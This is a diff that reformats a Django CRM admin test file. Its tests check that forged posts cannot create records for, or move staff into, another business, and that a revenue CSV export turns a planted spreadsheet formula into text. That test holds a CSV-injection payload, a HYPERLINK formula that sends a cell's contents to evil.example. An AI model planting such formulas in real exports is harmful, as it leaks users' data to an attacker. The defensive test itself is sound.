@@ -63,11 +63,13 @@ def test_an_owners_admin_forms_offer_only_their_own_business(owner, stranger, ot
     ("model", "data"),
     [
         ("source", {"key": "forged", "provider": "website", "config": "{}", "is_active": "on"}),
-        ("serviceline", {"slug": "forged", "name": "Forged", "keywords": "[]", "currency": "USD",
-                         "offer_templates": "[]"}),
+        (
+            "serviceline",
+            {"slug": "forged", "name": "Forged", "keywords": "[]", "currency": "USD", "offer_templates": "[]"},
+        ),
         ("servicearea", {"name": "Forged", "postal_codes": "[]"}),
     ],
-)  # fmt: skip
+)
 def test_a_forged_post_naming_another_business_creates_nothing(owner, other_business, model, data):
     response = login(owner).post(f"/admin/crm/{model}/add/", {**data, "business": other_business.pk})
     assert response.status_code == 200  # the form again, with its error
@@ -82,9 +84,15 @@ def test_an_owner_cannot_move_a_team_member_into_another_business(owner, setter,
     page = client.get(url)
     assert page.status_code == 200 and "business" not in page.context["adminform"].form.fields
     form = {
-        "user": setter.user_id, "role": "setter", "display_name": "Sam", "weight": 1, "hours": "{}",
-        "rotation_score": 0, "is_active": "on", "business": other_business.pk,
-    }  # fmt: skip
+        "user": setter.user_id,
+        "role": "setter",
+        "display_name": "Sam",
+        "weight": 1,
+        "hours": "{}",
+        "rotation_score": 0,
+        "is_active": "on",
+        "business": other_business.pk,
+    }
     client.post(url, form)
     setter.refresh_from_db()
     assert setter.business_id == owner.business_id
@@ -167,9 +175,12 @@ def test_the_revenue_csv_turns_a_planted_formula_into_text(business, manager):
     contact = contact_create(business=business, actor="t", first_name="Eve", phones=["+13125550177"])
     planted = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
     lead_open(
-        contact=contact, actor="t", source=site, received_at=timezone.now(),
+        contact=contact,
+        actor="t",
+        source=site,
+        received_at=timezone.now(),
         touch={"channel": "form", "utm": {"campaign": planted}},
-    )  # fmt: skip
+    )
     export = login(manager).get("/admin/revenue/", {"by": "campaign", "format": "csv"})
     rows = list(csv.reader(io.StringIO(export.content.decode())))
     keys = [row[0] for row in rows[1:]]
